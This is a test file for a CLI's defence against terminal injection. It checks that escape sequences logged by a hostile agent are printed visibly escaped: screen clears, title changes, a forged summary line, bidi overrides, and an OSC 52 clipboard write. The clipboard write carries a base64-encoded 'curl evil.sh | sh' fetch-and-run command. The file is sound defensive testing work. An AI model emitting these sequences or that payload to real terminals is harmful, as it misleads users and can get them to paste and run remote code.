/**
 * Terminal injection: an agent logs escape sequences (clear screen, window title, OSC 52 clipboard, a forged
 * "Summary: passed" block, CR overwrite, bidi override, C1 CSI) and sends bad JSON carrying ESC. Run through the real
 * CLI (node bin/caxton.js run), no raw control byte reaches stdout or stderr, with or without colours, and the forged
 * summary stays on the agent's own log line.
 */
import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { printable, terminalLine } from '../../runtime/cli/terminalText';
import { buildExampleAgent, watFixture } from '../support/fixtures';
import { distDir, repoRoot } from '../support/paths';

// Any C0 control but LF, DEL, C1, bidi/format characters; ESC is allowed only as the CLI's own SGR colour codes.
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069]/;
const withoutOwnColours = (s: string): string => s.replace(/\u001b\[[0-9;]*m/g, '');

describe('terminal injection: agent text never reaches the terminal raw', function () {
  this.timeout(120_000);
  let dir: string;

  before(async () => {
    assert.ok(fs.existsSync(path.join(distDir, 'cli.js')), `build the CLI first (node esbuild.mjs); looked in ${distDir}`);
    const calc = await buildExampleAgent('calculator', 'calculator');
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'caxton-inject-'));
    fs.copyFileSync(calc.wasmPath, path.join(dir, 'calculator.wasm'));
    fs.writeFileSync(path.join(dir, 'injector.wasm'), await watFixture('hostile/terminal-injection'));
    fs.writeFileSync(path.join(dir, 'calculator.agent.yaml'), 'name: calculator\nmodule: calculator.wasm\n');
    fs.writeFileSync(
      path.join(dir, 'injector.agent.yaml'),
      'name: injector\nmodule: injector.wasm\nrestart: { policy: reset, max_restarts: 2 }\n',
    );
    const msg = (receiver: string, id: string, at: string, content: string): string =>
      `    - at: ${at}\n      message: { performative: request, sender: user, receiver: ${receiver}, reply_with: ${id}, conversation_id: ${id}, content: ${content} }\n`;
    fs.writeFileSync(
      path.join(dir, 'inject.scenario.yaml'),
      `scenario:\n  name: inject\n  messages:\n${msg('injector', 'i1', '0ms', '{}')}${msg('injector', 'i2', '10ms', '{}')}${msg('calculator', 'c1', '20ms', '{ action: calculate, x: 1, y: 2 }')}`,
    );
  });
  after(() => {
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  for (const color of [false, true]) {
    it(`caxton run prints every hostile string escaped (${color ? 'colours forced on' : 'no colours'}), the calculator still answers`, () => {
      const env = { ...process.env, NO_COLOR: color ? '' : '1', FORCE_COLOR: color ? '1' : '' };
      const r = spawnSync(process.execPath, [path.join(repoRoot, 'bin', 'caxton.js'), 'run', path.join(dir, 'inject.scenario.yaml')], {
        encoding: 'utf8',
        timeout: 60_000,
        env,
      });
      const out = r.stdout + r.stderr;
      assert.ok(r.status === 0 || r.status === 1, `exit ${r.status}: ${out}`);
      assert.doesNotMatch(withoutOwnColours(out), RAW, `raw control characters in:\n${JSON.stringify(out)}`);
      assert.doesNotMatch(withoutOwnColours(out), /\u001b/, 'no ESC but our own colour codes');
      assert.equal(/\u001b\[/.test(r.stdout), color, color ? 'FORCE_COLOR=1 paints the transcript' : 'no colours when NO_COLOR is set');
      const plain = withoutOwnColours(r.stdout);
      // Each hostile log stays on the injector's own line, visibly escaped.
      assert.match(plain, /injector log: ␛\[2J␛\[Hscreen cleared/);
      assert.match(plain, /injector log: ␛\]0;pwned␇title set/);
      assert.match(plain, /injector log: ␛\]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇clipboard/);
      assert.match(plain, /injector log: <U\+202E>txt\.exe<U\+202C>/);
      assert.match(plain, /injector log: <U\+009B>31mred/);
      assert.match(plain, /injector log: harmless␍ {2}Summary: injected — passed/);
      // The forged summary never starts a line: the only line starting with "Summary:" is the real one.
      const summaries = plain.split('\n').filter((l) => /^\s*Summary:/.test(l));
      assert.equal(summaries.length, 1, summaries.join('\n'));
      assert.match(summaries[0], /^Summary: inject — /);
      assert.match(plain, /injector log: ␊␊Summary: injected — passed␊ {2}delivered 9, dropped 0/);
      // The bad JSON the runtime echoes in its error is escaped too.
      assert.match(plain, /not valid JSON: \{␛\[31mnot json/);
      assert.match(plain, /calculator -> user {2}inform {2}\{"result":3\}/);
    });
  }

  it("printable() and terminalLine() make every control visible and keep only the CLI's own colours", () => {
    assert.equal(printable('a\u001b[2Jb\u0007\r\n\t\u007f'), 'a␛[2Jb␇␍␊␉␡');
    assert.equal(printable('\u202eabc\u202c \u009b \u2028 \ud800x 😀'), '<U+202E>abc<U+202C> <U+009B> <U+2028> <U+D800>x 😀');
    assert.equal(terminalLine('\u001b[32mok\u001b[0m\n\tnext \u001b]0;t\u0007'), '\u001b[32mok\u001b[0m\n\tnext ␛]0;t␇');
  });
});
